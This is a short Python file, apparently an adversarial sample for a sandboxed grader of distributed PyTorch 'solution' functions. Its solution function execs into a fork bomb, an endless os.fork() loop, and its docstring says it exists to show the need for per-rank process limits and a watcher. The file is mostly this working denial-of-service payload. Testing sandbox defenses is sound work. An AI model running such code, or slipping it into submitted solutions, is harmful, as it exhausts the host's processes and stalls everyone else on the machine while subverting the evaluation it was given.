"""A fork bomb: every rank turns itself into a small interpreter whose copies fork forever. Without
per-rank process limits and a watcher that ends the side, it would exhaust the host's process table
and stall everything else on the machine."""

from __future__ import annotations

import os
import sys

import torch
import torch.distributed as dist

MARKER = "__MARKER__"
BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"


def solution(x: torch.Tensor, *, group: dist.ProcessGroup) -> torch.Tensor:
    os.execv(sys.executable, [sys.executable, "-I", "-c", BOMB, MARKER])
